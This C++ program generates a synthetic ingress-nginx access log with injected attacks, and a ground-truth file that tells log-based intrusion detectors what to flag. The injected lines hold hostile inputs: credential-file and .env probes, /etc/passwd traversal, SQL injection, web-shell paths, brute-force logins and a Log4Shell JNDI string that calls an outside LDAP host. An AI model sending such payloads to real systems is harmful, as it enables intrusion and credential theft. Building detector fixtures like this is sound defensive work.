// Writes a synthetic ingress-nginx access log (the controller's default
// upstreaminfo format) with attacks injected at known places, and a ground
// truth file listing, for each attack, the detector that must fire and the
// client (or service) it must name.
//
//   ig_gen_access_log --lines N --out access.log --truth truth.tsv [--seed S]
//
// Background: 3,000 clients (a few busy ones), 40 services, browsers and
// API clients, 1% 404s spread thinly, 0.2% 5xx, 1 hour of log time. Attacks:
// path scanners, .env/.git probing, traversal, scanner user agents, login
// brute force, TLS sent to the plain port, CVE probes, an open-proxy probe,
// SQL injection, web-shell probing, a minute of 503s from one service's
// failed backends and a tenfold traffic spike on another. One busy client makes 404s all hour at a low rate and
// must not be flagged (it is listed in the truth file with detector "-"). Eight busy API clients (a NAT or a
// company proxy: 1.5% of the lines each) see 0.3% of their calls answered 401 and, every ten minutes, a burst of
// seven 401s within two seconds (tokens expiring under parallel calls); none of them is a brute force, but
// three brute forces hide among them: basic-auth guessing with many user names, a login brute force from one
// of the busy addresses, and token guessing on an ordinary API path.
#include <algorithm>
#include <cinttypes>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <random>
#include <string>
#include <vector>

namespace {

struct Out {
  FILE* f;
  std::string buf;
  void line(const std::string& s) {
    buf += s;
    buf += '\n';
    if (buf.size() > (1 << 20)) flush();
  }
  void flush() {
    fwrite(buf.data(), 1, buf.size(), f);
    buf.clear();
  }
};

std::string time_local(int64_t ms) {
  time_t t = static_cast<time_t>(ms / 1000);
  std::tm tm{};
  gmtime_r(&t, &tm);
  char b[40];
  strftime(b, sizeof b, "%d/%b/%Y:%H:%M:%S +0000", &tm);
  return b;
}

std::string ip(uint32_t a, uint32_t b, uint32_t c, uint32_t d) {
  return std::to_string(a) + "." + std::to_string(b) + "." + std::to_string(c) + "." + std::to_string(d);
}

struct Gen {
  std::mt19937_64 rng;
  uint64_t req = 0;
  std::string hex_id() {
    char b[33];
    snprintf(b, sizeof b, "%016" PRIx64 "%016" PRIx64, rng(), rng());
    return b;
  }
  std::string entry(const std::string& client, int64_t ms, const std::string& request, int status, int bytes,
                    const std::string& ua, const std::string& service, const std::string& upstream_status,
                    const std::string& user = "-") {
    std::string up = service.empty() ? "-" : "10.244." + std::to_string(rng() % 8) + "." + std::to_string(rng() % 250) + ":8080";
    char rt[16];
    snprintf(rt, sizeof rt, "%.3f", static_cast<double>(rng() % 400) / 1000.0);
    return client + " - " + user + " [" + time_local(ms) + "] \"" + request + "\" " + std::to_string(status) + " " +
           std::to_string(bytes) + " \"-\" \"" + ua + "\" " + std::to_string(300 + rng() % 600) + " " + rt + " [" +
           service + "] [] " + up + " " + (service.empty() ? "-" : std::to_string(bytes)) + " " +
           (service.empty() ? "-" : rt) + " " + upstream_status + " " + hex_id();
  }
};

const char* kAgents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "okhttp/4.12.0",
    "Go-http-client/2.0",
    "kube-probe/1.30",
    "python-requests/2.32.3",
};
const char* kPaths[] = {"/", "/api/v1/orders", "/api/v1/orders/1842", "/api/v1/cart", "/static/app.3f9a1c.js",
                        "/static/app.css", "/images/logo.png", "/products?page=2", "/products/1287",
                        "/api/v1/search?q=shoes", "/healthz", "/account", "/checkout", "/favicon.ico"};

}  // namespace

int main(int argc, char** argv) {
  uint64_t lines = 1'000'000;
  uint64_t seed = 42;
  const char* out_path = nullptr;
  const char* truth_path = nullptr;
  for (int i = 1; i + 1 < argc; i += 2) {
    if (!strcmp(argv[i], "--lines")) lines = strtoull(argv[i + 1], nullptr, 10);
    else if (!strcmp(argv[i], "--seed")) seed = strtoull(argv[i + 1], nullptr, 10);
    else if (!strcmp(argv[i], "--out")) out_path = argv[i + 1];
    else if (!strcmp(argv[i], "--truth")) truth_path = argv[i + 1];
  }
  if (!out_path || !truth_path || lines < 10'000) {
    fprintf(stderr, "usage: ig_gen_access_log --lines N(>=10000) --out FILE --truth FILE [--seed S]\n");
    return 2;
  }
  FILE* f = fopen(out_path, "w");
  FILE* t = fopen(truth_path, "w");
  if (!f || !t) {
    perror("open");
    return 2;
  }
  Gen g{std::mt19937_64(seed)};
  Out out{f, {}};
  std::vector<std::string> services;
  for (int i = 0; i < 40; ++i) services.push_back("shop-svc" + std::to_string(i) + "-80");
  std::vector<std::string> clients;
  for (int i = 0; i < 3000; ++i) clients.push_back(ip(10 + i % 3, (i / 250) % 250, i % 250, 1 + i % 200));
  const int64_t start = 1'772'359'200'000;  // 2026-03-01T10:00:00Z
  const int64_t span = 3'600'000;           // one hour of log time
  const std::string busy = "198.51.100.77";  // a busy, legitimate client with thin 404s
  std::vector<std::string> api_clients;      // busy API clients behind NATs, with expiring tokens
  for (uint32_t k = 0; k < 8; ++k) api_clients.push_back(ip(198, 51, 100, 10 + k));
  const uint64_t burst_every = std::max<uint64_t>(lines / 6, 1);  // about ten minutes of log time

  // Attacks at fixed fractions of the log: {fraction, kind}.
  struct Attack {
    double at;
    int kind;
  };
  std::vector<Attack> attacks = {{0.05, 0}, {0.10, 1}, {0.15, 2}, {0.20, 3}, {0.25, 4}, {0.30, 5},
                                 {0.35, 6}, {0.40, 7}, {0.45, 8}, {0.50, 9}, {0.60, 10}, {0.70, 11},
                                 {0.75, 12}, {0.80, 13}, {0.85, 14}};
  size_t next_attack = 0;
  int64_t outage_until = 0;
  fprintf(t, "detector\tclient\tservice\n");
  fprintf(t, "-\t%s\t\n", busy.c_str());
  for (const auto& c : api_clients) fprintf(t, "-\t%s\t\n", c.c_str());

  std::uniform_int_distribution<int> pick_agent(0, 7), pick_path(0, 13), pct(0, 9999);
  // Zipf-like: a quarter of the traffic from 20 clients.
  for (uint64_t n = 0; n < lines; ++n) {
    int64_t ms = start + static_cast<int64_t>(static_cast<double>(n) / static_cast<double>(lines) * span);
    while (next_attack < attacks.size() && static_cast<double>(n) >= attacks[next_attack].at * lines) {
      int kind = attacks[next_attack++].kind;
      std::string a = ip(203, 0, 113, static_cast<uint32_t>(10 + kind));
      const std::string& svc = services[static_cast<size_t>(kind) % services.size()];
      auto emit = [&](const std::string& request, int status, const std::string& ua, int64_t t_ms) {
        out.line(g.entry(a, t_ms, request, status, 150, ua, svc, std::to_string(status)));
      };
      const std::string ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)";
      switch (kind) {
        case 0:  // path scanning: 30 distinct 404s in 3 s
          for (int i = 0; i < 30; ++i) emit("GET /admin" + std::to_string(i) + "/index.php HTTP/1.1", 404, ua, ms + i * 100);
          fprintf(t, "IG801\t%s\t\n", a.c_str());
          break;
        case 1:  // secrets
          for (const char* p : {"/.env", "/.git/config", "/.aws/credentials", "/backup.sql", "/.htpasswd", "/id_rsa"})
            emit(std::string("GET ") + p + " HTTP/1.1", 404, ua, ms);
          fprintf(t, "IG802\t%s\t\n", a.c_str());
          break;
        case 2:  // traversal
          for (int i = 0; i < 5; ++i)
            emit("GET /download?file=" + std::string(static_cast<size_t>(i + 1) * 3, '.') + "/../../etc/passwd HTTP/1.1", 400, ua, ms + i * 50);
          fprintf(t, "IG803\t%s\t\n", a.c_str());
          break;
        case 3:  // scanner user agent
          for (int i = 0; i < 3; ++i) emit("GET / HTTP/1.1", 200, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", ms + i * 20);
          fprintf(t, "IG804\t%s\t\n", a.c_str());
          break;
        case 4:  // login brute force
          for (int i = 0; i < 12; ++i) emit("POST /api/login HTTP/1.1", 401, ua, ms + i * 300);
          fprintf(t, "IG805\t%s\t\n", a.c_str());
          break;
        case 5:  // TLS handshakes on the plain-HTTP port, rejected before routing
          for (int i = 0; i < 12; ++i)
            out.line(a + " - - [" + time_local(ms + i * 200) +
                     "] \"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03\" 400 150 \"-\" \"-\" 0 0.001 [] [] - - - - " + g.hex_id());
          fprintf(t, "IG806\t%s\t\n", a.c_str());
          break;
        case 6:  // Log4Shell in the user agent
          emit("GET /api/v1/search?q=x HTTP/1.1", 200, "${jndi:ldap://198.51.100.9:1389/a}", ms);
          fprintf(t, "IG809\t%s\t\n", a.c_str());
          break;
        case 7:  // open proxy probe
          emit("CONNECT example.org:443 HTTP/1.1", 400, ua, ms);
          fprintf(t, "IG808\t%s\t\n", a.c_str());
          break;
        case 8:  // SQL injection
          for (int i = 0; i < 8; ++i)
            emit("GET /products?id=" + std::to_string(i) + "%27%20OR%20%271%27=%271%20UNION%20SELECT%20password HTTP/1.1", 500, ua, ms + i * 100);
          fprintf(t, "IG810\t%s\t\n", a.c_str());
          break;
        case 9:  // web shells
          for (const char* p : {"/wso.php", "/c99.php", "/shell.php"}) emit(std::string("GET ") + p + " HTTP/1.1", 404, ua, ms);
          fprintf(t, "IG811\t%s\t\n", a.c_str());
          break;
        case 10:  // one service's backends fail: its ordinary traffic is answered 503 for a minute (no extra requests)
          outage_until = ms + 60'000;
          fprintf(t, "IG822\t\t%s\n", services[3].c_str());
          break;
        case 11: {  // traffic spike on one service: 8,000 requests within 40 s
          const std::string& hot = services[5];
          // Ten times the service's usual rate for one minute, within 40 s.
          const uint64_t n_spike = std::max<uint64_t>(400, lines / 240);
          for (uint64_t i = 0; i < n_spike; ++i)
            out.line(g.entry(clients[(i * 7) % clients.size()], ms + static_cast<int64_t>(i * 40'000 / n_spike),
                             "GET /products/1287 HTTP/1.1", 200, 5120, kAgents[i % 4], hot, "200"));
          fprintf(t, "IG821\t\t%s\n", hot.c_str());
          break;
        }
        case 12: {  // basic-auth guessing: a different user name on each attempt, a second apart
          const char* users[] = {"admin", "root", "test", "guest", "operator", "support", "backup", "deploy"};
          for (int i = 0; i < 8; ++i)
            out.line(g.entry(a, ms + i * 1000, "GET /admin/ HTTP/1.1", 401, 180, ua, svc, "401", users[i]));
          fprintf(t, "IG805\t%s\t\n", a.c_str());
          break;
        }
        case 13:  // a login brute force from behind one of the busy API clients' NATs
          for (int i = 0; i < 10; ++i)
            out.line(g.entry(api_clients[0], ms + i * 400, "POST /api/login HTTP/1.1", 401, 90, ua, svc, "401"));
          fprintf(t, "IG805\t%s\t\n", api_clients[0].c_str());
          break;
        case 14:  // token guessing on an ordinary API path from an address of its own
          for (int i = 0; i < 20; ++i)
            emit("GET /api/v1/orders/" + std::to_string(1000 + i) + " HTTP/1.1", 401, "python-requests/2.32.3",
                 ms + i * 500);
          fprintf(t, "IG805\t%s\t\n", a.c_str());
          break;
      }
    }
    int r = pct(g.rng);
    int who = pct(g.rng);  // independent of r, so no client gets a share of the 404s out of step with its traffic
    const std::string& client = who < 2500 ? clients[static_cast<size_t>(who % 20)] : clients[g.rng() % clients.size()];
    const std::string& svc = services[g.rng() % services.size()];
    int status = 200;
    std::string path = kPaths[pick_path(g.rng)];
    if (&svc == &services[3] && ms < outage_until) {
      status = 503;
    } else if (r % 100 == 7) {
      status = 404;
      path = "/products/" + std::to_string(g.rng() % 100000);
    } else if (r % 500 == 11) {
      status = 502;
    } else if (r % 50 == 3) {
      status = 304;
    }
    for (uint64_t k = 0; k < api_clients.size(); ++k) {
      if (n % burst_every == (k + 1) * burst_every / 10) {  // a token expires under seven parallel calls
        for (int i = 0; i < 7; ++i)
          out.line(g.entry(api_clients[k], ms + i * 300, "GET /api/v1/orders HTTP/1.1", 401, 60, kAgents[4],
                           services[k], "401"));
      }
    }
    if (who >= 8800) {  // one of the busy API clients: ordinary calls, 0.3% answered 401
      const std::string& api = api_clients[static_cast<size_t>(who - 8800) % api_clients.size()];
      int st = r % 300 == 5 ? 401 : 200;
      out.line(g.entry(api, ms, std::string(r % 4 == 0 ? "POST" : "GET") + " /api/v1/orders/" + std::to_string(r) +
                                    " HTTP/1.1",
                       st, st == 200 ? 700 : 60, kAgents[4], svc, std::to_string(st)));
      continue;
    }
    if (n % 1000 == 0) {  // the busy client: a 404 every 1,000 lines (about 3.6 s of log time apart)
      out.line(g.entry(busy, ms, "GET /missing/" + std::to_string(n) + " HTTP/1.1", 404, 150, kAgents[2], svc, "404"));
      continue;
    }
    std::string method = r % 13 == 0 ? "POST" : "GET";
    out.line(g.entry(client, ms, method + " " + path + " HTTP/1.1", status, status == 200 ? 512 + r : 0, kAgents[pick_agent(g.rng)],
                     svc, std::to_string(status)));
  }
  out.flush();
  fclose(f);
  fclose(t);
  return 0;
}
